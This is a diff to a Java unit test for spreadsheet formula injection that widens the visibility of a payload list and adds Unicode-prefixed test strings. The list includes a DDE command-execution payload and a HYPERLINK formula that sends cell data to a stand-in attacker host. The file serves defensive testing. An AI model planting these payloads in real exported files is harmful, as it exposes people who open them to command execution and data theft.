@@ -18,7 +18,7 @@ import org.junit.jupiter.api.Test;
 /** What somebody typed in one place must not be carried out in the spreadsheet of another. */
 class FormulaInjectionTest {
 
-    private static final List<String> PAYLOADS = List.of(
+    static final List<String> PAYLOADS = List.of(
             "=1+1",
             "=cmd|' /C calc'!A0",
             "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
@@ -48,6 +48,9 @@ class FormulaInjectionTest {
             "\u200B=1+1",
             "\uFEFF=1+1",
             "\u2028=1+1",
+            "\uFFFE=1+1",
+            "\uDB40\uDC01=1+1",
+            "\uE000+1",
             " \t =1+1",
             "=1+1\";=1+1",
             "\"=1+1",
